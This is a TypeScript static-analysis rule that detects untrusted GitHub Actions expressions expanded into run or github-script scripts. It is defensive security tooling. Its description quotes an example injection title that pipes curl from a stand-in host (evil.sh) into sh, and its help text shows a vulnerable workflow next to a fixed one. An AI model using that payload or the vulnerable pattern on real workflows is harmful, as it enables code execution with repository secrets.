import type { IacCheck } from '../../../check.js';
import { PRIVILEGED_TRIGGERS, untrustedContext } from '../contexts.js';
import { expressionsAt, expressionText, taintOf, Taint } from '../expressions.js';
import { hasTrigger, stepScripts, withEnv, type GhaDoc } from '../model.js';

export const check: IacCheck<GhaDoc> = {
  meta: {
    id: 'iac/gha-expression-injection',
    title: 'Untrusted input expanded into a script',
    severity: 'high',
    cwe: ['CWE-78', 'CWE-94'],
    description:
      'GitHub replaces `${{ ... }}` expressions in `run:` (and in the `script:` of actions/github-script) before the shell or Node runs the text. ' +
      'Values such as an issue or pull request title, a comment body, a branch name or a commit message are chosen by whoever opens the issue or ' +
      'pull request, so a title like `a"; curl evil.sh | sh; echo "` becomes part of the script and runs with the job\'s token and secrets.',
    help: {
      bad: [
        'on: issues',
        'permissions: {}',
        'jobs:',
        '  triage:',
        '    runs-on: ubuntu-latest',
        '    steps:',
        '      - run: echo "New issue ${{ github.event.issue.title }}"',
        '',
      ].join('\n'),
      good: [
        'on: issues',
        'permissions: {}',
        'jobs:',
        '  triage:',
        '    runs-on: ubuntu-latest',
        '    steps:',
        '      - run: echo "New issue $TITLE"',
        '        env:',
        '          TITLE: ${{ github.event.issue.title }}',
        '',
      ].join('\n'),
      fix: 'Pass the value through `env:` and refer to it as a shell variable (`"$TITLE"`), which the shell never parses as code.',
    },
    references: [
      'https://securitylab.github.com/resources/github-actions-untrusted-input/',
      'https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections',
    ],
    tags: ['github-actions', 'owasp:A03:2021', 'injection'],
    precision: 'high',
    platform: 'github-actions',
    checkov: ['CKV_GHA_2'],
  },
  check(doc, report) {
    const privileged = hasTrigger(doc, PRIVILEGED_TRIGGERS);
    for (const job of doc.jobs)
      for (const step of job.steps) {
        const classify = withEnv(doc, job, step, untrustedContext);
        for (const script of stepScripts(step))
          for (const expression of expressionsAt(doc.file, script.path)) {
            if (taintOf(expression.inner, classify) !== Taint.Value) continue;
            const where = script.kind === 'run' ? 'a shell script' : 'a github-script script';
            const suffix = privileged ? ' in a workflow that runs with write access and secrets' : '';
            report({
              path: doc.path,
              start: expression.start,
              end: expression.end,
              resource: step.label,
              message: `Untrusted \`${expressionText(expression)}\` is expanded into ${where}${suffix}`,
            });
          }
      }
  },
};
